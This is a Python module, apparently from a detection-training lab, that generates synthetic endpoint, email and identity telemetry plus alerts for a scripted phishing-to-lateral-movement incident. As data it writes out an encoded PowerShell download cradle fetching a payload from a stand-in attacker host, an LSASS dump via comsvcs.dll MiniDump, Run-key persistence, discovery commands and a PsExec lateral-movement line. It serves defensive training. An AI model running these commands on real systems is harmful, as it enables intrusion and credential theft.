"""Story: a macro-laden invoice is mailed to an employee, opened from Outlook; Word runs an
encoded PowerShell download cradle, the implant persists and beacons, dumps LSASS with
comsvcs.dll, runs domain discovery, then moves to the file server with PsExec and RDPs to a
domain controller with a helpdesk admin's stolen credentials."""

from __future__ import annotations

from datetime import datetime, timedelta
from typing import Any

from xdrlab.demo.telemetry.alerts import alert_id
from xdrlab.demo.telemetry.endpoint import encoded
from xdrlab.demo.telemetry.fleet import Org, stable_guid
from xdrlab.demo.telemetry.frame import dumps
from xdrlab.demo.telemetry.model import AlertSpec, EntitySpec, IncidentSpec
from xdrlab.demo.telemetry.rng import py_random
from xdrlab.demo.telemetry.software import IMAGES, Image, file_hashes
from xdrlab.demo.telemetry.story import SYSTEM, Account, Proc, Rows

STORY = "phishing-to-lateral-movement"
ATTACKER_DOMAIN = "northwind-payments.com"
C2_HOST = f"cdn.{ATTACKER_DOMAIN}"
C2_IP = "198.51.100.23"
SENDER_IP = "203.0.113.77"


def _user_entity(org: Org, account: Account, role: str = "Impacted") -> EntitySpec:
    return EntitySpec(
        "User",
        role,
        {
            "accountName": account.name,
            "domainName": org.netbios,
            "userSid": account.sid,
            "aadUserId": account.object_id or None,
            "userPrincipalName": account.upn or None,
        },
    )


def _process_entity(proc: Proc, device_id: str, role: str = "Related") -> EntitySpec:
    folder = proc.image.path.rsplit("\\", 1)[0]
    fields: dict[str, Any] = {
        "sha1": proc.image.sha1,
        "sha256": proc.image.sha256,
        "fileName": proc.image.name,
        "filePath": folder,
        "processId": proc.pid,
        "processCommandLine": proc.command,
        "processCreationTime": proc.created,
        "deviceId": device_id,
        "accountName": proc.account.name,
        "domainName": proc.account.domain,
        "userSid": proc.account.sid,
    }
    if proc.parent is not None:
        fields["parentProcessId"] = proc.parent.pid
        fields["parentProcessCreationTime"] = proc.parent.created
    return EntitySpec("Process", role, fields, {"FileSize": proc.image.file_size})


def build(org: Org, now: datetime, seed: int) -> tuple[IncidentSpec, Rows]:
    rnd = py_random(seed, STORY)
    rows = Rows(org)
    people = [i for i, p in enumerate(org.people) if not p.is_admin]
    victim_index = people[rnd.randrange(len(people))]
    victim = org.people[victim_index]
    ws = org.device_of(victim_index)
    fs = org.server("fs01")
    dc = org.server("dc01")
    admin = next(p for p in org.people if p.is_admin)
    day = (now - timedelta(days=3)).date()
    t0 = datetime.combine(day, datetime.min.time()) + timedelta(
        hours=9, minutes=rnd.randrange(0, 50), seconds=rnd.randrange(60)
    )

    def at(minutes: float) -> datetime:
        return t0 + timedelta(seconds=round(minutes * 60), microseconds=rnd.randrange(1_000_000))

    def pid() -> int:
        return 400 + 4 * rnd.randrange(1_000, 9_000)

    user = Account.of(org, victim, 0x1000000 + rnd.randrange(1 << 20), elevated=False)
    elevated = Account.of(org, victim, user.logon_id + 17, elevated=True)
    admin_account = Account.of(org, admin, 0x2000000 + rnd.randrange(1 << 20), elevated=True)

    # ---- 1. The mail.
    invoice = f"INV-{rnd.randrange(20_000, 29_999)}"
    doc_name = f"Invoice_{invoice}.docm"
    doc_md5, doc_sha1, doc_sha256 = file_hashes(f"{STORY}/{seed}/{doc_name}")
    doc_size = 184_320 + rnd.randrange(4_096)
    nmid = stable_guid(seed, STORY, "mail")
    imid = f"<{stable_guid(seed, STORY, 'imid').replace('-', '')[:20]}@{ATTACKER_DOMAIN}>"
    sender = f"accounts@{ATTACKER_DOMAIN}"
    subject = f"Overdue invoice {invoice} - payment required today"
    mail_url = f"https://portal.{ATTACKER_DOMAIN}/invoices/{invoice}"
    delivered = at(0)
    report = f"{nmid}-{rnd.randrange(10**15, 10**16)}-0"
    rows.add(
        "EmailEvents",
        {
            "Timestamp": delivered,
            "NetworkMessageId": nmid,
            "InternetMessageId": imid,
            "SenderMailFromAddress": sender,
            "SenderFromAddress": sender,
            "SenderDisplayName": "Northwind Payments",
            "SenderMailFromDomain": ATTACKER_DOMAIN,
            "SenderFromDomain": ATTACKER_DOMAIN,
            "SenderIPv4": SENDER_IP,
            "RecipientEmailAddress": victim.upn,
            "RecipientObjectId": victim.object_id,
            "Subject": subject,
            "EmailClusterId": 3_141_592_653,
            "EmailDirection": "Inbound",
            "DeliveryAction": "Delivered",
            "DeliveryLocation": "Inbox/folder",
            "AuthenticationDetails": '{"SPF":"pass","DKIM":"none","DMARC":"none","CompAuth":"softpass"}',
            "AttachmentCount": 1,
            "UrlCount": 1,
            "EmailLanguage": "en",
            "ReportId": report,
            "AdditionalFields": "{}",
            "LatestDeliveryLocation": "Quarantine",
            "LatestDeliveryAction": "Moved to quarantine",
        },
    )
    rows.add(
        "EmailAttachmentInfo",
        {
            "Timestamp": delivered,
            "NetworkMessageId": nmid,
            "SenderFromAddress": sender,
            "SenderDisplayName": "Northwind Payments",
            "RecipientEmailAddress": victim.upn,
            "RecipientObjectId": victim.object_id,
            "FileName": doc_name,
            "FileType": "docm",
            "SHA256": doc_sha256,
            "FileSize": doc_size,
            "ReportId": report,
        },
    )
    rows.add(
        "EmailUrlInfo",
        {
            "Timestamp": delivered,
            "NetworkMessageId": nmid,
            "Url": mail_url,
            "UrlDomain": f"portal.{ATTACKER_DOMAIN}",
            "UrlLocation": "Body",
            "ReportId": report,
        },
    )
    zap = delivered + timedelta(minutes=41)
    rows.add(
        "EmailPostDeliveryEvents",
        {
            "Timestamp": zap,
            "NetworkMessageId": nmid,
            "InternetMessageId": imid,
            "Action": "Moved to quarantine",
            "ActionType": "Malware ZAP",
            "ActionTrigger": "SpecialAction",
            "ActionResult": "Success",
            "RecipientEmailAddress": victim.upn,
            "DeliveryLocation": "Quarantine",
            "ThreatTypes": "Malware",
            "DetectionMethods": '{"Malware":["File detonation"]}',
            "ReportId": f"{nmid}-zap",
        },
    )
    click_time = at(5.5)
    rows.add(
        "UrlClickEvents",
        {
            "Timestamp": click_time,
            "Url": mail_url,
            "ActionType": "ClickAllowed",
            "AccountUpn": victim.upn,
            "Workload": "Email",
            "NetworkMessageId": nmid,
            "IPAddress": org.public_ip,
            "IsClickedThrough": True,
            "UrlChain": dumps([mail_url]),
            "ReportId": stable_guid(seed, STORY, "click"),
        },
    )

    # ---- 2. Outlook saves and Word opens the document.
    explorer = Proc(
        IMAGES["explorer"],
        pid(),
        "C:\\Windows\\Explorer.EXE",
        datetime.combine(day, datetime.min.time()) + timedelta(hours=8, minutes=2),
        user,
        Proc(
            IMAGES["userinit"],
            pid(),
            "C:\\Windows\\system32\\userinit.exe",
            datetime.combine(day, datetime.min.time()) + timedelta(hours=8, minutes=1, seconds=58),
            user,
        ),
    )
    outlook = Proc(
        IMAGES["outlook"],
        pid(),
        f'"{IMAGES["outlook"].path}" ',
        explorer.created + timedelta(minutes=3),
        user,
        explorer,
    )
    cache = f"C:\\Users\\{victim.account_name}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\K3JQ8Z2M"
    doc_path = f"{cache}\\{doc_name}"
    opened = at(6)
    rows.event(
        "DeviceFileEvents",
        ws,
        opened - timedelta(seconds=2),
        outlook,
        ActionType="FileCreated",
        FileName=doc_name,
        FolderPath=doc_path,
        SHA1=doc_sha1,
        SHA256=doc_sha256,
        MD5=doc_md5,
        FileSize=doc_size,
        AdditionalFields=dumps({"FileType": "Docm"}),
    )
    word = Proc(
        IMAGES["winword"],
        pid(),
        f'"{IMAGES["winword"].path}" /n "{doc_path}" /o ""',
        opened,
        user,
        outlook,
    )
    rows.process(ws, word)
    rows.event(
        "DeviceImageLoadEvents",
        ws,
        opened + timedelta(seconds=3),
        word,
        ActionType="ImageLoaded",
        **_lib("vbe7"),
    )

    # ---- 3. The macro: encoded PowerShell download cradle.
    payload_path = "C:\\Users\\Public\\Libraries\\wupdsvc.exe"
    payload = Image(
        payload_path,
        company="",
        product="",
        version=f"1.0.{seed % 100}.0",
        description="Windows Update Service Helper",
        size=287_744,
        signer="Unsigned",
        original_name="stager.exe",
    )
    stage_url = f"https://{C2_HOST}/assets/{invoice.lower()}/update.bin"
    script = (
        f"$u='{stage_url}';$p=\"$env:PUBLIC\\Libraries\\wupdsvc.exe\";"
        "(New-Object Net.WebClient).DownloadFile($u,$p);Start-Process $p"
    )
    ps_command = (
        f"powershell.exe -NoP -NonI -W Hidden -Exec Bypass -EncodedCommand {encoded(script)}"
    )
    ps = Proc(IMAGES["powershell"], pid(), ps_command, at(7), user, word)
    rows.process(ws, ps)
    rows.event(
        "DeviceEvents",
        ws,
        ps.created,
        word,
        ActionType="AsrOfficeChildProcessAudited",
        FileName=ps.image.name,
        FolderPath=ps.image.path,
        SHA1=ps.image.sha1,
        SHA256=ps.image.sha256,
        MD5=ps.image.md5,
        ProcessId=ps.pid,
        ProcessCommandLine=ps.command,
        ProcessCreationTime=ps.created,
        AdditionalFields=dumps({"IsAudit": True, "RuleId": "d4f940ab-401b-4efc-aadc-ad5f3c50688a"}),
    )
    rows.event(
        "DeviceEvents",
        ws,
        ps.created + timedelta(seconds=1),
        ps,
        ActionType="PowerShellCommand",
        AdditionalFields=dumps({"Command": "New-Object"}),
    )
    rows.event(
        "DeviceEvents",
        ws,
        ps.created + timedelta(seconds=1, milliseconds=200),
        ps,
        ActionType="AmsiScriptContent",
        AdditionalFields=dumps({"ScriptContent": script}),
    )
    c2_connect = ps.created + timedelta(seconds=2)
    rows.event(
        "DeviceNetworkEvents",
        ws,
        c2_connect,
        ps,
        ActionType="ConnectionSuccess",
        RemoteIP=C2_IP,
        RemotePort=443,
        RemoteUrl=C2_HOST,
        LocalIP=ws.ip,
        LocalPort=50_000 + rnd.randrange(10_000),
        Protocol="Tcp",
        RemoteIPType="Public",
        LocalIPType="Private",
    )
    dropped = ps.created + timedelta(seconds=4)
    rows.event(
        "DeviceFileEvents",
        ws,
        dropped,
        ps,
        ActionType="FileCreated",
        FileName=payload.name,
        FolderPath=payload.path,
        SHA1=payload.sha1,
        SHA256=payload.sha256,
        MD5=payload.md5,
        FileSize=payload.file_size,
        FileOriginUrl=stage_url,
        FileOriginIP=C2_IP,
    )
    implant = Proc(payload, pid(), f'"{payload.path}"', ps.created + timedelta(seconds=6), user, ps)
    rows.process(ws, implant)
    run_key = "HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run"
    rows.event(
        "DeviceRegistryEvents",
        ws,
        implant.created + timedelta(seconds=3),
        implant,
        ActionType="RegistryValueSet",
        RegistryKey=run_key,
        RegistryValueName="WindowsUpdateSvc",
        RegistryValueData=f'"{payload.path}"',
        RegistryValueType="String",
    )
    for k in range(12):
        rows.event(
            "DeviceNetworkEvents",
            ws,
            implant.created + timedelta(seconds=20 + 300 * k + rnd.randrange(30)),
            implant,
            ActionType="ConnectionSuccess",
            RemoteIP=C2_IP,
            RemotePort=443,
            RemoteUrl=C2_HOST,
            LocalIP=ws.ip,
            LocalPort=50_000 + rnd.randrange(10_000),
            Protocol="Tcp",
            RemoteIPType="Public",
            LocalIPType="Private",
        )

    # ---- 4. Credential dumping (elevated via a UAC prompt the user accepted).
    cmd = Proc(
        IMAGES["cmd"],
        pid(),
        'cmd.exe /c "tasklist /fi "imagename eq lsass.exe""',
        at(38),
        elevated,
        implant,
    )
    rows.process(ws, cmd)
    lsass_pid = 700 + 4 * rnd.randrange(1, 30)
    dump_path = "C:\\Users\\Public\\Libraries\\debug.dmp"
    rundll = Proc(
        IMAGES["rundll32"],
        pid(),
        f"rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump {lsass_pid} {dump_path} full",
        at(40),
        elevated,
        implant,
    )
    rows.process(ws, rundll)
    rows.event(
        "DeviceImageLoadEvents",
        ws,
        rundll.created + timedelta(milliseconds=120),
        rundll,
        ActionType="ImageLoaded",
        **_lib("comsvcs"),
    )
    lsass = IMAGES["lsass"]
    rows.event(
        "DeviceEvents",
        ws,
        rundll.created + timedelta(seconds=1),
        rundll,
        ActionType="OpenProcessApiCall",
        FileName=lsass.name,
        FolderPath=lsass.path,
        SHA1=lsass.sha1,
        SHA256=lsass.sha256,
        MD5=lsass.md5,
        ProcessId=lsass_pid,
        ProcessCommandLine="C:\\Windows\\system32\\lsass.exe",
        AdditionalFields=dumps({"DesiredAccess": 2097151}),
    )
    dump_md5, dump_sha1, dump_sha256 = file_hashes(f"{STORY}/{seed}/lsass-dump")
    rows.event(
        "DeviceFileEvents",
        ws,
        rundll.created + timedelta(seconds=3),
        rundll,
        ActionType="FileCreated",
        FileName="debug.dmp",
        FolderPath=dump_path,
        SHA1=dump_sha1,
        SHA256=dump_sha256,
        MD5=dump_md5,
        FileSize=52_428_800 + rnd.randrange(10_000_000),
    )

    # ---- 5. Discovery.
    discovery = [
        (IMAGES["whoami"], "whoami.exe /all"),
        (IMAGES["net"], 'net.exe group "Domain Admins" /domain'),
        (IMAGES["nltest"], "nltest.exe /dclist:" + org.dns_domain),
        (IMAGES["net"], f"net.exe view \\\\{fs.short_name}"),
    ]
    for k, (img, line) in enumerate(discovery):
        rows.process(ws, Proc(img, pid(), line, at(55 + 2 * k), elevated, implant))

    # ---- 6. Lateral movement: PsExec to the file server with the helpdesk admin's password.
    psexec = Image(
        "C:\\Users\\Public\\Libraries\\PsExec64.exe",
        company="Sysinternals - www.sysinternals.com",
        product="Sysinternals PsExec",
        version="2.43",
        description="Execute processes remotely",
        size=833_472,
        signer="ThirdParty",
        original_name="psexec.exe",
    )
    psexec_drop = at(68)
    rows.event(
        "DeviceFileEvents",
        ws,
        psexec_drop,
        implant,
        ActionType="FileCreated",
        FileName=psexec.name,
        FolderPath=psexec.path,
        SHA1=psexec.sha1,
        SHA256=psexec.sha256,
        MD5=psexec.md5,
        FileSize=psexec.file_size,
        FileOriginUrl=f"https://{C2_HOST}/tools/PsExec64.exe",
        FileOriginIP=C2_IP,
    )
    ps_line = f"PsExec64.exe \\\\{fs.short_name} -accepteula -u {org.netbios}\\{admin.account_name} -p ******** -s -c -f {payload.path}"
    psx = Proc(psexec, pid(), ps_line, at(70), elevated, cmd)
    rows.process(ws, psx)
    copied = psx.created + timedelta(seconds=2)
    rows.event(
        "DeviceFileEvents",
        ws,
        copied,
        psx,
        ActionType="FileCreated",
        FileName=payload.name,
        FolderPath=f"\\\\{fs.short_name}\\ADMIN$\\{payload.name}",
        SHA1=payload.sha1,
        SHA256=payload.sha256,
        MD5=payload.md5,
        FileSize=payload.file_size,
    )
    rows.event(
        "DeviceNetworkEvents",
        ws,
        psx.created + timedelta(seconds=1),
        psx,
        ActionType="ConnectionSuccess",
        RemoteIP=fs.ip,
        RemotePort=445,
        LocalIP=ws.ip,
        LocalPort=50_000 + rnd.randrange(10_000),
        Protocol="Tcp",
        RemoteIPType="Private",
        LocalIPType="Private",
    )
    logon_id = 0x3000000 + rnd.randrange(1 << 20)
    system_services = Proc(
        IMAGES["services"],
        680 + 4 * rnd.randrange(20),
        "C:\\Windows\\system32\\services.exe",
        datetime.combine(day, datetime.min.time()) - timedelta(days=6),
        SYSTEM,
        Proc(
            IMAGES["wininit"],
            560,
            "wininit.exe",
            datetime.combine(day, datetime.min.time()) - timedelta(days=6),
            SYSTEM,
        ),
    )
    lsass_fs = Proc(
        IMAGES["lsass"],
        700 + 4 * rnd.randrange(20),
        "C:\\Windows\\system32\\lsass.exe",
        system_services.created,
        SYSTEM,
        system_services.parent,
    )
    rows.event(
        "DeviceLogonEvents",
        fs,
        copied - timedelta(seconds=1),
        lsass_fs,
        ActionType="LogonSuccess",
        LogonType="Network",
        AccountDomain=org.netbios.lower(),
        AccountName=admin.account_name,
        AccountSid=admin.sid,
        Protocol="NTLM",
        IsLocalAdmin=True,
        LogonId=logon_id,
        RemoteDeviceName=ws.name,
        RemoteIP=ws.ip,
        RemoteIPType="Private",
        RemotePort=50_000 + rnd.randrange(10_000),
        AdditionalFields=dumps({"IsLocalLogon": False}),
    )
    rows.event(
        "DeviceFileEvents",
        fs,
        copied,
        Proc(IMAGES["system"], 4, "", system_services.created, SYSTEM),
        ActionType="FileCreated",
        FileName=payload.name,
        FolderPath=f"C:\\Windows\\{payload.name}",
        SHA1=payload.sha1,
        SHA256=payload.sha256,
        MD5=payload.md5,
        FileSize=payload.file_size,
        RequestProtocol="SMB",
        RequestSourceIP=ws.ip,
        RequestSourcePort=50_000 + rnd.randrange(10_000),
        RequestAccountName=admin.account_name,
        RequestAccountDomain=org.netbios,
        RequestAccountSid=admin.sid,
        ShareName="ADMIN$",
    )
    psexesvc = Image(
        "C:\\Windows\\PSEXESVC.exe",
        company="Sysinternals - www.sysinternals.com",
        product="Sysinternals PsExec",
        version="2.43",
        description="PsExec Service",
        size=187_776,
        signer="ThirdParty",
    )
    service_key = "HKEY_LOCAL_MACHINE\\SYSTEM\\ControlSet001\\Services\\PSEXESVC"
    rows.event(
        "DeviceRegistryEvents",
        fs,
        copied + timedelta(seconds=1),
        system_services,
        ActionType="RegistryKeyCreated",
        RegistryKey=service_key,
    )
    rows.event(
        "DeviceRegistryEvents",
        fs,
        copied + timedelta(seconds=1, milliseconds=5),
        system_services,
        ActionType="RegistryValueSet",
        RegistryKey=service_key,
        RegistryValueName="ImagePath",
        RegistryValueData="%SystemRoot%\\PSEXESVC.exe",
        RegistryValueType="ExpandString",
    )
    rows.event(
        "DeviceEvents",
        fs,
        copied + timedelta(seconds=1, milliseconds=10),
        system_services,
        ActionType="ServiceInstalled",
        FileName="PSEXESVC.exe",
        FolderPath=psexesvc.path,
        AccountName=admin.account_name,
        AccountDomain=org.netbios.lower(),
        AccountSid=admin.sid,
        AdditionalFields=dumps(
            {
                "ServiceName": "PSEXESVC",
                "ServiceType": "Win32OwnProcess",
                "ServiceStartType": 3,
                "ServiceAccount": "LocalSystem",
            }
        ),
    )
    svc = Proc(
        psexesvc,
        pid(),
        "C:\\Windows\\PSEXESVC.exe",
        copied + timedelta(seconds=2),
        SYSTEM,
        system_services,
    )
    rows.process(fs, svc)
    rows.event(
        "DeviceEvents",
        fs,
        svc.created + timedelta(milliseconds=300),
        svc,
        ActionType="NamedPipeEvent",
        AdditionalFields=dumps(
            {
                "PipeName": f"\\Device\\NamedPipe\\PSEXESVC-{ws.short_name.upper()}-{psx.pid}-stdin",
                "FileOperation": "File created",
                "NamedPipeEnd": "Server",
            }
        ),
    )
    remote_implant = Proc(
        Image(
            f"C:\\Windows\\{payload.name}",
            company="",
            product="",
            version=payload.version,
            description=payload.description,
            size=payload.size,
            signer="Unsigned",
            original_name="stager.exe",
        ),
        pid(),
        f"C:\\Windows\\{payload.name}",
        svc.created + timedelta(seconds=1),
        SYSTEM,
        svc,
    )
    rows.process(fs, remote_implant)
    for k in range(6):
        rows.event(
            "DeviceNetworkEvents",
            fs,
            remote_implant.created + timedelta(seconds=15 + 300 * k + rnd.randrange(30)),
            remote_implant,
            ActionType="ConnectionSuccess",
            RemoteIP=C2_IP,
            RemotePort=443,
            RemoteUrl=C2_HOST,
            LocalIP=fs.ip,
            LocalPort=50_000 + rnd.randrange(10_000),
            Protocol="Tcp",
            RemoteIPType="Public",
            LocalIPType="Private",
        )

    # ---- 7. RDP to a domain controller.
    mstsc = Proc(
        IMAGES["mstsc"], pid(), f'"mstsc.exe" /v:{dc.short_name}', at(95), elevated, implant
    )
    rows.process(ws, mstsc)
    rows.event(
        "DeviceNetworkEvents",
        ws,
        mstsc.created + timedelta(seconds=1),
        mstsc,
        ActionType="ConnectionSuccess",
        RemoteIP=dc.ip,
        RemotePort=3389,
        LocalIP=ws.ip,
        LocalPort=50_000 + rnd.randrange(10_000),
        Protocol="Tcp",
        RemoteIPType="Private",
        LocalIPType="Private",
    )
    rdp_time = mstsc.created + timedelta(seconds=9)
    termsvc = Proc(
        IMAGES["svchost"],
        1_100 + 4 * rnd.randrange(50),
        "C:\\Windows\\System32\\svchost.exe -k termsvcs -s TermService",
        system_services.created,
        Account(
            "network service",
            "nt authority",
            "S-1-5-20",
            integrity="System",
            elevation="TokenElevationTypeDefault",
            logon_id=996,
        ),
        system_services,
    )
    rows.event(
        "DeviceLogonEvents",
        dc,
        rdp_time,
        termsvc,
        ActionType="LogonSuccess",
        LogonType="RemoteInteractive",
        AccountDomain=org.netbios.lower(),
        AccountName=admin.account_name,
        AccountSid=admin.sid,
        Protocol="Negotiate",
        IsLocalAdmin=True,
        LogonId=admin_account.logon_id,
        RemoteDeviceName=ws.name,
        RemoteIP=ws.ip,
        RemoteIPType="Private",
        RemotePort=50_000 + rnd.randrange(10_000),
        AdditionalFields=dumps({"IsLocalLogon": False}),
    )
    rows.add(
        "IdentityLogonEvents",
        {
            "Timestamp": rdp_time,
            "ActionType": "LogonSuccess",
            "Application": "Active Directory",
            "LogonType": "Remote interactive (RDP)",
            "Protocol": "Kerberos",
            "AccountName": admin.account_name,
            "AccountDomain": org.dns_domain,
            "AccountUpn": admin.upn,
            "AccountSid": admin.sid,
            "AccountObjectId": admin.object_id,
            "AccountDisplayName": admin.display_name,
            "DeviceName": ws.name,
            "DeviceType": "Desktop",
            "OSPlatform": "Windows",
            "IPAddress": ws.ip,
            "Port": 50_000 + rnd.randrange(10_000),
            "DestinationDeviceName": dc.name,
            "DestinationIPAddress": dc.ip,
            "DestinationPort": 3389,
            "TargetDeviceName": dc.name,
            "ReportId": stable_guid(seed, STORY, "idlogon"),
            "AdditionalFields": {"Count": "1", "Category": "Lateral Movement"},
        },
    )

    # ---- Alerts and the incident.
    ws_spec, fs_spec, dc_spec = ws.spec, fs.spec, dc.spec
    victim_user = _user_entity(org, user)
    admin_user = _user_entity(org, admin_account)
    doc_entity = EntitySpec(
        "File",
        "Related",
        {
            "sha1": doc_sha1,
            "sha256": doc_sha256,
            "fileName": doc_name,
            "filePath": cache,
            "deviceId": ws.id,
        },
        {"FileSize": doc_size},
    )
    mail_entity = EntitySpec(
        "MailMessage",
        "Related",
        {
            "sender": sender,
            "recipient": victim.upn,
            "subject": subject,
            "deliveryAction": "Delivered",
            "clusterBy": "Subject;P2SenderDomain;ContentType",
        },
        {"NetworkMessageId": nmid},
    )
    mailbox_entity = EntitySpec(
        "MailBox",
        "Impacted",
        {
            "mailboxDisplayName": victim.display_name,
            "mailboxAddress": victim.upn,
            "userPrincipalName": victim.upn,
            "aadUserId": victim.object_id,
        },
    )
    payload_entity = EntitySpec(
        "File",
        "Related",
        {
            "sha1": payload.sha1,
            "sha256": payload.sha256,
            "fileName": payload.name,
            "filePath": payload.path.rsplit("\\", 1)[0],
            "deviceId": ws.id,
        },
        {"FileSize": payload.file_size},
    )
    c2_ip = EntitySpec("Ip", "Related", {"ipAddress": C2_IP}, {"EvidenceDirection": "Destination"})
    c2_url = EntitySpec("Url", "Related", {"url": stage_url})

    def alert(
        minute: float,
        svc_src: str,
        det: str,
        title: str,
        desc: str,
        category: str,
        severity: str,
        techniques: tuple[str, ...],
        first: datetime,
        last: datetime,
        devices: tuple[Any, ...],
        entities: tuple[EntitySpec, ...],
        status: str = "New",
        actor: str | None = None,
        family: str | None = None,
    ) -> AlertSpec:
        created = (last + timedelta(minutes=minute)).replace(microsecond=rnd.randrange(1_000_000))
        return AlertSpec(
            alert_id(svc_src, created, seed, title),
            title,
            desc,
            category,
            severity,
            svc_src,
            det,
            techniques,
            created,
            first,
            last,
            status,
            devices,
            entities,
            threat_family_name=family,
            actor_name=actor,
        )

    alerts = (
        alert(
            3,
            "MicrosoftDefenderForOffice365",
            "OfficeATP",
            "Email messages containing malicious file removed after delivery",
            f"Emails with a malicious attachment ({doc_name}) were delivered and later removed by zero-hour auto purge.",
            "InitialAccess",
            "Medium",
            ("T1566.001",),
            delivered,
            zap,
            (),
            (
                mail_entity,
                mailbox_entity,
                doc_entity,
                EntitySpec("Url", "Related", {"url": mail_url}),
            ),
        ),
        alert(
            1,
            "MicrosoftDefenderForEndpoint",
            "EDR",
            "Suspicious PowerShell command line",
            "A suspicious PowerShell command line was launched by Microsoft Word, decoding and running a download cradle.",
            "Execution",
            "Medium",
            ("T1059.001", "T1027", "T1204.002", "T1105"),
            word.created,
            implant.created,
            (ws_spec,),
            (
                victim_user,
                _process_entity(word, ws.id),
                _process_entity(ps, ws.id, "Impacted"),
                doc_entity,
                payload_entity,
                c2_url,
                c2_ip,
            ),
            "InProgress",
        ),
        alert(
            2,
            "MicrosoftDefenderForEndpoint",
            "EDR",
            "Anomaly detected in ASEP registry",
            "A process registered itself to run at every logon under the user's Run key.",
            "Persistence",
            "Medium",
            ("T1547.001",),
            implant.created,
            implant.created + timedelta(seconds=3),
            (ws_spec,),
            (
                victim_user,
                _process_entity(implant, ws.id),
                EntitySpec(
                    "Registry",
                    "Related",
                    {
                        "registryHive": "HKEY_CURRENT_USER",
                        "registryKey": "Software\\Microsoft\\Windows\\CurrentVersion\\Run",
                        "registryValueType": "String",
                        "registryValue": f'"{payload.path}"',
                    },
                    {"RegistryValueName": "WindowsUpdateSvc"},
                ),
            ),
        ),
        alert(
            1,
            "MicrosoftDefenderForEndpoint",
            "EDR",
            "Possible credential theft: LSASS memory dumped with comsvcs.dll",
            "rundll32.exe loaded comsvcs.dll and called MiniDump on the LSASS process, writing its memory to disk.",
            "CredentialAccess",
            "High",
            ("T1003.001", "T1218.011"),
            rundll.created,
            rundll.created + timedelta(seconds=3),
            (ws_spec,),
            (
                victim_user,
                _process_entity(rundll, ws.id, "Impacted"),
                EntitySpec(
                    "File",
                    "Related",
                    {
                        "sha1": dump_sha1,
                        "sha256": dump_sha256,
                        "fileName": "debug.dmp",
                        "filePath": "C:\\Users\\Public\\Libraries",
                        "deviceId": ws.id,
                    },
                ),
            ),
        ),
        alert(
            2,
            "MicrosoftDefenderForEndpoint",
            "EDR",
            "Suspicious service creation via remote execution (PsExec)",
            f"PsExec copied an unsigned executable to {fs.short_name} over ADMIN$ and ran it as a service with {admin.account_name}'s credentials.",
            "LateralMovement",
            "High",
            ("T1021.002", "T1569.002", "T1543.003"),
            psx.created,
            remote_implant.created,
            (ws_spec, fs_spec),
            (
                admin_user,
                _process_entity(psx, ws.id),
                _process_entity(svc, fs.id),
                payload_entity,
                EntitySpec(
                    "Ip", "Related", {"ipAddress": fs.ip}, {"EvidenceDirection": "Destination"}
                ),
            ),
            actor=None,
        ),
        alert(
            3,
            "MicrosoftDefenderForIdentity",
            "AzureATP",
            "Suspected identity theft (pass-the-credential) and remote desktop to a domain controller",
            f"{admin.display_name} signed in to {dc.short_name} over RDP from {ws.short_name}, a device they have never used.",
            "LateralMovement",
            "High",
            ("T1021.001", "T1078.004"),
            rdp_time,
            rdp_time,
            (ws_spec, dc_spec),
            (
                admin_user,
                EntitySpec("Ip", "Related", {"ipAddress": ws.ip}, {"EvidenceDirection": "Source"}),
            ),
        ),
    )
    created = min(a.created for a in alerts)
    incident = IncidentSpec(
        title="Multi-stage incident involving Initial access & Lateral movement on multiple endpoints",
        severity="High",
        status="Active",
        created=created,
        last_update=max(a.created for a in alerts) + timedelta(minutes=4),
        alerts=alerts,
        tags=("Phishing", "Credential Theft"),
        story=STORY,
    )
    return incident, rows


def _lib(key: str) -> dict[str, Any]:
    from xdrlab.demo.telemetry.software import LIBRARIES

    lib = LIBRARIES[key]
    return {
        "FileName": lib.name,
        "FolderPath": lib.path,
        "SHA1": lib.sha1,
        "SHA256": lib.sha256,
        "MD5": lib.md5,
        "FileSize": lib.file_size,
    }
